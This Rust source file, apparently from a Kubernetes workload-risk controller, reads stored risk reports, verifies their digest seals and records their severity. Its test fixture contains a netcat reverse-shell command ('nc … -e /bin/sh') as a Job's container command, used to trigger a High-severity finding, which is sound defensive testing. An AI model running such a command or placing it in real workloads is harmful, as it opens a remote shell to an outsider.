//! Reports as the API server has them, read leniently: somebody else may have written to them.

use std::collections::BTreeMap;
use std::fmt;
use std::hash::{DefaultHasher, Hash as _, Hasher as _};

use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ObjectMeta, OwnerReference};

use serde::{Deserialize, Deserializer};
use serde_json::value::RawValue;

use super::id::Id;
use super::ledger::Key;
use crate::api::report::{JobRiskReport, Peak, ReportSpec, ReportStatus, keys, read_as_report};
use crate::finding_log::Verdict;
use crate::report::{Digest, Mark, RETAINED_FROM, digest_of, mark, raised_peak, report_names, subject_owner};
use crate::severity::Severity;
use crate::workload::Kind;

/// A report from the API server, without its `managedFields`, which somebody could have made unreadable.
#[derive(Clone)]
pub struct Stored {
    meta: ObjectMeta,
    /// Whether the API server is about to remove it.
    pub is_dying: bool,
    /// Whether finalizers hold it back from being removed.
    pub has_finalizers: bool,
    spec: Option<ReportSpec>,
    status: Option<ReportStatus>,
}

impl fmt::Debug for Stored {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Stored").field("name", &self.meta.name).finish_non_exhaustive()
    }
}

#[derive(Deserialize)]
struct Raw {
    metadata: RawMeta,
    spec: Option<Box<RawValue>>,
    status: Option<Box<RawValue>>,
}

/// All of this is of these types whoever wrote it: the API server sees to that for metadata.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawMeta {
    name: Option<String>,
    namespace: Option<String>,
    uid: Option<String>,
    resource_version: Option<String>,
    generation: Option<i64>,
    labels: Option<BTreeMap<String, String>>,
    annotations: Option<BTreeMap<String, String>>,
    owner_references: Option<Vec<OwnerReference>>,
    finalizers: Option<Vec<String>>,
    // Text, since not every time that is stored can be parsed.
    deletion_timestamp: Option<String>,
}

impl<'de> Deserialize<'de> for Stored {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let Raw { metadata, spec, status } = Raw::deserialize(deserializer)?;
        let meta = ObjectMeta {
            name: metadata.name,
            namespace: metadata.namespace,
            uid: metadata.uid,
            resource_version: metadata.resource_version,
            generation: metadata.generation,
            labels: metadata.labels,
            annotations: metadata.annotations,
            owner_references: metadata.owner_references,
            ..ObjectMeta::default()
        };
        Ok(Self {
            meta,
            is_dying: metadata.deletion_timestamp.is_some(),
            has_finalizers: metadata.finalizers.is_some_and(|list| !list.is_empty()),
            spec: spec.and_then(|raw| serde_json::from_str(raw.get()).ok()),
            status: status.and_then(|raw| serde_json::from_str(raw.get()).ok()),
        })
    }
}

read_as_report!(Stored);

/// What the ledger remembers of a report.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Known {
    /// The report's own uid.
    pub id: Id,
    /// Its generation: it rises with each change of its content.
    pub generation: i64,
    /// Its digest. `None` where its content is not what its digest says: then it has to be written anew.
    pub digest: Option<Digest>,
    /// A hash of what it remembers (the peak, the differing runs), which the digest leaves out.
    pub history: u64,
    /// Its severity.
    pub severity: Severity,
    /// Its risk, 0 to 100. As a byte, since there may be a hundred thousand of these.
    pub risk_score: u8,
    /// The worst verdict so far, the present one included.
    pub peak: Peak,
    /// How many differing runs it names.
    pub runs: u8,
    /// The workload's generation of the verdict.
    pub subject_generation: i64,
    /// Which of its [`report_names`] it has.
    pub name: u8,
    /// Its digest would be right with the workload as an owner, which the garbage collector takes out when it is gone.
    pub is_trimmed: bool,
    /// Whom it names, if it says that this was verified.
    pub vouched: Option<Mark>,
    /// The list of reports in which it was last seen.
    pub round: u16,
}

impl Known {
    /// Whether the content is the same.
    pub fn is_as(&self, other: &Self) -> bool {
        self.digest.is_some() && self.digest == other.digest && self.history == other.history
    }

    /// Whether what stands in it is what was written, or is so but for the owner that is gone.
    pub fn is_sealed(&self) -> bool {
        self.digest.is_some() || self.is_trimmed
    }

    /// What the report says, in short.
    pub fn verdict(&self) -> Verdict {
        Verdict { severity: self.severity, risk_score: self.risk_score.into() }
    }

    /// Whether the report is to outlive its workload.
    pub fn is_retained(&self) -> bool {
        self.severity >= RETAINED_FROM
    }
}

/// A report whose subject could be read.
#[derive(Debug)]
pub struct Subject {
    /// The workload it is about.
    pub key: Key,
    /// That workload's uid.
    pub uid: Id,
    /// Which of its [`report_names`] it has.
    pub name: u8,
}

impl Stored {
    /// Its own uid.
    pub fn id(&self) -> Id {
        Id::of(self.meta.uid.as_deref().unwrap_or_default())
    }

    /// Which workload it is about; `None` for one that is not named like a report on it, or says nothing readable.
    pub fn subject(&self) -> Option<Subject> {
        let subject = &self.spec.as_ref()?.subject;
        let kind = Kind::parse(&subject.kind)?;
        let names = report_names(kind, &subject.name, &subject.uid);
        let own = self.meta.name.as_deref()?;
        Some(Subject {
            key: Key::new(kind, self.meta.namespace.as_deref()?, &subject.name),
            uid: Id::of(&subject.uid),
            name: names.iter().position(|name| name == own).and_then(|index| u8::try_from(index).ok())?,
        })
    }

    /// What to remember of it, if it is a report.
    pub fn known(&self) -> Option<Known> {
        self.known_as(self.subject()?.name)
    }

    /// [`Self::known`] of a report that has this one of its names.
    pub fn known_as(&self, name: u8) -> Option<Known> {
        self.meta.uid.as_ref()?;
        let Some(status) = &self.status else { return Some(self.without_verdict(name)) };
        let sealed = self.meta.annotations.as_ref().and_then(|all| all.get(keys::DIGEST));
        let sealed = sealed.and_then(|text| Digest::parse(text));
        let content = digest_of(&self.meta, self.spec.as_ref()?, Some(status));
        let digest = sealed.filter(|sealed| *sealed == content);
        let verified = status.attribution.as_ref().filter(|who| who.verified && digest.is_some());
        Some(Known {
            id: self.id(),
            generation: self.meta.generation.unwrap_or_default(),
            digest,
            is_trimmed: digest.is_none() && sealed.is_some_and(|sealed| self.is_trimmed(sealed)),
            history: history(status),
            severity: status.severity,
            risk_score: u8::try_from(status.risk_score.clamp(0, 100)).unwrap_or_default(),
            runs: u8::try_from(status.differing_runs.len()).unwrap_or(u8::MAX),
            peak: raised_peak(status.peak, status),
            subject_generation: status.subject_generation,
            name,
            vouched: verified.map(mark),
            round: 0,
        })
    }

    /// Whether it had this digest as long as the workload was its first owner.
    fn is_trimmed(&self, sealed: Digest) -> bool {
        let (Some(spec), Some(owners)) = (&self.spec, &self.meta.owner_references) else { return false };
        if owners.iter().any(|owner| owner.uid == spec.subject.uid) {
            return false;
        }
        let owners = std::iter::once(subject_owner(&spec.subject)).chain(owners.iter().cloned()).collect();
        let meta = ObjectMeta { owner_references: Some(owners), ..self.meta.clone() };
        digest_of(&meta, spec, self.status.as_ref()) == sealed
    }

    /// What to remember of a report whose verdict somebody has removed or made unreadable.
    fn without_verdict(&self, name: u8) -> Known {
        let severity = Severity::None;
        Known {
            id: self.id(),
            generation: self.meta.generation.unwrap_or_default(),
            digest: None,
            is_trimmed: false,
            history: 0,
            severity,
            risk_score: 0,
            peak: Peak { severity, risk_score: 0, subject_generation: 0 },
            runs: 0,
            subject_generation: 0,
            name,
            vouched: None,
            round: 0,
        }
    }

    /// The report with nothing but what jobrisk writes, to be applied again with a change.
    pub fn report(&self) -> Option<JobRiskReport> {
        let metadata = ObjectMeta {
            name: self.meta.name.clone(),
            namespace: self.meta.namespace.clone(),
            labels: self.meta.labels.as_ref().map(|labels| {
                let ours = labels.iter().filter(|(key, _)| keys::LABELS.contains(&key.as_str()));
                ours.map(|(key, value)| (key.clone(), value.clone())).collect()
            }),
            annotations: self.meta.annotations.as_ref().map(|annotations| {
                let ours = annotations.iter().filter(|(key, _)| *key == keys::DIGEST);
                ours.map(|(key, value)| (key.clone(), value.clone())).collect()
            }),
            owner_references: self.meta.owner_references.clone(),
            ..ObjectMeta::default()
        };
        Some(JobRiskReport { metadata, spec: self.spec.clone()?, status: Some(self.status.clone()?) })
    }

    /// The verdict.
    pub fn status(&self) -> Option<&ReportStatus> {
        self.status.as_ref()
    }

    /// The workload's uid, as text.
    pub fn subject_uid(&self) -> Option<&str> {
        self.spec.as_ref().map(|spec| spec.subject.uid.as_str())
    }
}

/// A hash of what a report remembers. Compared within one process only.
fn history(status: &ReportStatus) -> u64 {
    let mut hasher = DefaultHasher::new();
    serde_json::to_string(&(status.peak, &status.differing_runs)).unwrap_or_default().hash(&mut hasher);
    hasher.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::assess::assess;
    use crate::report::report_owned;
    use crate::workload::decode::from_json;

    /// A report at High as an API server stores it, changed by `change`.
    fn stored(change: impl Fn(&mut serde_json::Value)) -> Stored {
        let json = r#"{"metadata": {"name": "a", "namespace": "n", "uid": "1"}, "spec": {"template": {"spec": {
            "containers": [{"name": "c", "command": ["nc", "192.0.2.10", "4444", "-e", "/bin/sh"]}]}}}}"#;
        let draft =
            report_owned(&assess(Kind::Job, &from_json(json.as_bytes()).unwrap()), Some("definition"), None);
        let mut report = serde_json::to_value(&draft.report).unwrap();
        report["metadata"]["uid"] = "r".into();
        report["metadata"]["generation"] = 1.into();
        change(&mut report);
        serde_json::from_value(report).unwrap()
    }

    #[test]
    fn a_report_is_sealed_as_long_as_nobody_changes_what_it_says() {
        let known = stored(|_| {}).known().unwrap();
        assert!(known.digest.is_some() && known.is_retained());
        let changed = stored(|report| report["status"]["riskScore"] = 0.into()).known().unwrap();
        assert!(!changed.is_sealed());
        let emptied = stored(|report| report["status"] = serde_json::Value::Null).known().unwrap();
        assert!(!emptied.is_sealed() && !emptied.is_retained());
    }

    #[test]
    fn the_owner_that_is_gone_is_all_that_may_be_missing() {
        let trim = |report: &mut serde_json::Value| {
            report["metadata"]["ownerReferences"].as_array_mut().unwrap().remove(0);
        };
        let trimmed = stored(trim).known().unwrap();
        assert!(trimmed.digest.is_none() && trimmed.is_sealed());
        let more = stored(|report| {
            trim(report);
            report["status"]["riskScore"] = 0.into();
        });
        assert!(!more.known().unwrap().is_sealed());
        let none = stored(|report| report["metadata"]["ownerReferences"] = serde_json::Value::Null);
        assert!(!none.known().unwrap().is_sealed());
    }
}
